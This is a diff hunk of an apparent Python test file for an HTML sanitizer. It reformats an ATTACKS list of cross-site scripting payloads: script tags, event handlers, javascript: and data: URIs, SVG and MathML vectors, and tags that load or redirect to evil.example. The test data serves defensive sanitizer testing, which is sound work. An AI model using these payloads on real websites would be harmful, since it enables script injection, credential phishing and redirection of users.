@@ -16,19 +16,43 @@ ATTACKS = [
     # (id, body)
     ("script", "<p>a</p><script>alert(1)</script><p>b</p>"),
     ("script-uppercase-split", "<SCRIPT SRC=//evil.example/x.js></SCRIPT><p>text</p>"),
-    ("event-handlers", '<p onclick="alert(1)" onmouseover=alert(2)>text<img src=x onerror=alert(3)></p>'),
+    (
+        "event-handlers",
+        '<p onclick="alert(1)" onmouseover=alert(2)>text<img src=x onerror=alert(3)></p>',
+    ),
     ("javascript-link", '<a href="javascript:alert(1)">x</a><a href=" JaVaScRiPt:alert(1)">y</a>'),
-    ("javascript-entity-obfuscated", '<a href="jav&#x09;ascript:alert(1)">x</a><a href="&#106;avascript:alert(1)">y</a>'),
-    ("data-uri", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a><img src="data:image/svg+xml,<svg onload=alert(1)>">'),
+    (
+        "javascript-entity-obfuscated",
+        '<a href="jav&#x09;ascript:alert(1)">x</a><a href="&#106;avascript:alert(1)">y</a>',
+    ),
+    (
+        "data-uri",
+        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a><img src="data:image/svg+xml,<svg onload=alert(1)>">',
+    ),
     ("vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
     ("iframe", '<iframe src="https://evil.example/"></iframe><p>text</p>'),
     ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
     ("object-embed", '<object data="x.swf"></object><embed src="x.swf"><applet code="x"></applet>'),
-    ("form", '<form action="https://evil.example/"><input name=p><button>go</button></form><p>t</p>'),
-    ("style-tag-and-attr", '<style>body{display:none}</style><p style="background:url(javascript:alert(1))">t</p>'),
-    ("svg-script", '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
-    ("svg-animate", '<svg><animate attributeName=href to=javascript:alert(1) /><set attributeName=onload to=alert(1) /></svg>'),
-    ("math-xlink", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'),
+    (
+        "form",
+        '<form action="https://evil.example/"><input name=p><button>go</button></form><p>t</p>',
+    ),
+    (
+        "style-tag-and-attr",
+        '<style>body{display:none}</style><p style="background:url(javascript:alert(1))">t</p>',
+    ),
+    (
+        "svg-script",
+        '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+    ),
+    (
+        "svg-animate",
+        "<svg><animate attributeName=href to=javascript:alert(1) /><set attributeName=onload to=alert(1) /></svg>",
+    ),
+    (
+        "math-xlink",
+        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
+    ),
     ("base-hijack", '<base href="https://evil.example/"><a href="/relative">x</a>'),
     ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>t</p>'),
     ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css"><p>t</p>'),
